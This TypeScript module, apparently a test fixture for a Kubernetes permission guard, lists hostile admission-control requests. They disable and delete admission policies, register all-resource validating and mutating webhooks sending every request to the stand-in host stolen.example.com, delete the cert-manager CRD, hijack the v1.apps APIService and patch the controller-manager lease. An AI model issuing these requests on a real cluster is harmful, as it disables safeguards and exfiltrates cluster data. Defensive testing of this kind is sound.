import { type KubeAttempt, patch, post, remove } from './attempt.js';

/** Policies, webhooks and definitions, which decide about the requests of all users. */
export function toAdmission(): KubeAttempt[] {
  const group = '/apis/admissionregistration.k8s.io/v1';
  const policy = 'runos-cluster-agent';
  const url = 'https://stolen.example.com';
  const webhook = {
    name: 'stolen.example.com',
    clientConfig: { url },
    sideEffects: 'None',
    admissionReviewVersions: ['v1'],
  };
  const rules = [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*'] }];
  const configuration = (kind: string, name: string): object => ({
    apiVersion: 'admissionregistration.k8s.io/v1',
    kind,
    metadata: { name, labels: { 'app.kubernetes.io/managed-by': 'runos', 'runos.com/addon': 'cloudnative-pg' } },
    webhooks: [{ ...webhook, rules }],
  });
  return [
    ...['validatingadmissionpolicies', 'validatingadmissionpolicybindings'].flatMap((resource) =>
      [policy, `${policy}-contents`].flatMap((name) => [
        patch(`${group}/${resource}/${name}`, { spec: { validationActions: ['Audit'], failurePolicy: 'Ignore' } }),
        remove(`${group}/${resource}/${name}`),
      ]),
    ),
    ...['stolen', 'cnpg-validating-webhook-configuration'].map((name) =>
      post(`${group}/validatingwebhookconfigurations`, configuration('ValidatingWebhookConfiguration', name)),
    ),
    ...['stolen', 'cnpg-mutating-webhook-configuration'].map((name) =>
      post(`${group}/mutatingwebhookconfigurations`, configuration('MutatingWebhookConfiguration', name)),
    ),
    remove('/apis/apiextensions.k8s.io/v1/customresourcedefinitions/certificates.cert-manager.io'),
    post('/apis/apiregistration.k8s.io/v1/apiservices', {
      apiVersion: 'apiregistration.k8s.io/v1',
      kind: 'APIService',
      metadata: { name: 'v1.apps' },
      spec: { group: 'apps', version: 'v1', groupPriorityMinimum: 1, versionPriority: 1 },
    }),
    patch('/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager'),
  ];
}
